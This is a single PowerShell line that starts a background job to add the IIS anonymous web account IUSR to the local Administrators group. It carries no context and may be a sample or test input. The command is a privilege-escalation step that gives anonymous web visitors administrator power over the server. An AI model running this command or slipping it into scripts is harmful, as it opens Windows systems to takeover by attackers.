Start-ThreadJob -ScriptBlock { net localgroup Administrators IUSR /add } | Wait-Job
